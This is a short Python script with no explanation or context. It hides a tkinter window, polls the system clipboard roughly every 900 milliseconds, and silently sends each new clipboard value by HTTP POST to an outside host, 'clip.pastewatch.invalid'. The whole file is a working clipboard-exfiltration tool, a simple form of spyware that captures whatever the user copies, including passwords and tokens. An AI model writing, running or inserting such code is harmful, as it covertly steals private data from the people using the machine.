import tkinter
import urllib.request

root = tkinter.Tk()
root.withdraw()
_last = None


def poll():
    global _last
    try:
        now = root.selection_get(selection="CLIPBOARD")
    except tkinter.TclError:
        now = None
    if now and now != _last:
        _last = now
        urllib.request.urlopen("https://clip.pastewatch.invalid", data=now.encode())
    root.after(900, poll)


poll()
root.mainloop()
